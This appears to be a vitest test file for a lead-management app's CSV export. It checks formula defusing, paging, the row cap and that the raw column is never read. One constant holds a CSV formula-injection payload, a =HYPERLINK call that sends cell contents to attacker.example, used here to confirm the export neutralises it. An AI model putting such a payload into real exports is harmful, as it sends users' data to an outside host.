/**
 * The leads CSV export as a spreadsheet will open it: every cell that a spreadsheet would run as a
 * formula is defused (edge/lib/csv.ts), and the export is read in keyset pages without `raw`.
 */
import { env } from 'cloudflare:workers';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_MAX_ROWS, EXPORT_PAGE } from '../../../edge/reports/lead-export.ts';
import { ADMIN, call, getJson, postLead } from '../../helpers/api.ts';
import { contact, copyDemoTenant } from '../../helpers/ops.ts';

const TENANT = 'export-co';
const PAGED = 'export-paged';
const CAPPED = 'export-capped';

// The issue's payload: papaparse's escapeFormulae let it through because of the line break.
const HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&L3&M3,\n"Open")';

async function exportCsv(tenant: string) {
  const res = await call(`/v1/admin/reports/leads.csv?tenant=${tenant}`, { headers: ADMIN });
  expect(res.status).toBe(200);
  const text = await res.text();
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { res, text, rows: parsed.data };
}

/** `count` copies of `templateId` in `tenant`, one second apart, all older than the template. */
async function copyLead(templateId: string, tenant: string, count: number) {
  const { results } = await env.DB.prepare('SELECT name FROM pragma_table_info(?)')
    .bind('leads')
    .all<{ name: string }>();
  const replaced: Record<string, string> = {
    id: `printf('ld_bulk_${tenant}_%06d', n.i)`,
    tenant: '?2',
    submission_id: `'bulk-' || n.i`,
    received_at: `strftime('%Y-%m-%dT%H:%M:%fZ', l.received_at, '-' || n.i || ' seconds')`,
  };
  const columns = results.map((c) => c.name);
  await env.DB.prepare(
    `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?3)
     INSERT INTO leads (${columns.join(', ')})
     SELECT ${columns.map((c) => replaced[c] ?? `l.${c}`).join(', ')} FROM n, leads l
      WHERE l.id = ?1`,
  )
    .bind(templateId, tenant, count)
    .run();
}

beforeAll(async () => {
  for (const slug of [TENANT, PAGED, CAPPED]) await copyDemoTenant(slug);
});

describe('GET /v1/admin/reports/leads.csv: formulas', () => {
  it('defuses a formula that continues after a line break, and every other formula start', async () => {
    const id = await postLead({
      tenant: TENANT,
      ...contact('6025550301', 'csv@example.com', HYPERLINK),
      address: { street: '+1+2', unit: '-1', city: '－1+2', state: '＠SUM(A1)', zip: '85001' },
      source: {
        landingPage: '\t=1+2',
        referrer: '\r=1+2',
        utm: { source: '@SUM(A1:A9)', medium: '-2+3', campaign: '＝1+2' },
      },
    });
    const safe = await postLead({
      tenant: TENANT,
      ...contact('6025550302', 'safe@example.com', 'Ann = Lee'),
    });
    const { rows } = await exportCsv(TENANT);
    const row = rows.find((r) => r.lead_id === id)!;
    expect(row).toMatchObject({
      name: `'${HYPERLINK}`,
      street: `'+1+2`,
      unit: `'-1`,
      landing_page: `'\t=1+2`,
      city: `'－1+2`,
      state: `'＠SUM(A1)`,
      referrer: `'\r=1+2`,
      utm_source: `'@SUM(A1:A9)`,
      utm_medium: `'-2+3`,
      utm_campaign: `'＝1+2`,
      email: 'csv@example.com',
    });
    // Only the first character counts: text with an operator inside stays as it was.
    expect(rows.find((r) => r.lead_id === safe)).toMatchObject({ name: 'Ann = Lee' });
  });
});

describe('GET /v1/admin/reports/leads.csv: paging', () => {
  it('reads every page, newest first, each lead once', async () => {
    const template = await postLead({ tenant: PAGED, ...contact('6025550303', 'p@example.com') });
    const extra = EXPORT_PAGE * 2 + 7;
    await copyLead(template, PAGED, extra);
    const { res, rows } = await exportCsv(PAGED);
    expect(res.headers.get('x-export-truncated')).toBe('false');
    expect(rows).toHaveLength(extra + 1);
    expect(new Set(rows.map((r) => r.lead_id)).size).toBe(extra + 1);
    const times = rows.map((r) => r.received_at);
    expect(times).toEqual([...times].sort().reverse());
    expect(rows[0]!.lead_id).toBe(template);
  });

  it(`stops at ${EXPORT_MAX_ROWS} rows and says it was cut`, async () => {
    const template = await postLead({ tenant: CAPPED, ...contact('6025550304', 'c@example.com') });
    await copyLead(template, CAPPED, EXPORT_MAX_ROWS);
    const { res, rows } = await exportCsv(CAPPED);
    expect(res.headers.get('x-export-truncated')).toBe('true');
    expect(rows).toHaveLength(EXPORT_MAX_ROWS);
    // The newest rows are the ones kept.
    expect(rows[0]!.lead_id).toBe(template);
    // 20,000 rows through the real stream: seconds, more on a busy machine.
  }, 60_000);

  it('reads neither the list nor the export with raw; the lead page still shows it', async () => {
    const id = await postLead({ tenant: TENANT, ...contact('6025550305', 'r@example.com') });
    // A raw column the lists cannot parse: they succeed only if they never read it.
    await env.DB.prepare(`UPDATE leads SET raw = 'not json' WHERE id = ?`).bind(id).run();
    const list = await getJson(`/v1/admin/leads?tenant=${TENANT}`);
    expect(list.status).toBe(200);
    const listed = (list.body.leads as Record<string, unknown>[]).find((l) => l.id === id);
    expect(listed).toBeDefined();
    expect(listed).not.toHaveProperty('raw');
    const { rows } = await exportCsv(TENANT);
    expect(rows.map((r) => r.lead_id)).toContain(id);

    await env.DB.prepare(`UPDATE leads SET raw = '{"notes":42}' WHERE id = ?`).bind(id).run();
    const detail = await getJson(`/v1/admin/leads/${id}`);
    expect(detail.body.lead.raw).toEqual({ notes: 42 });
  });
});
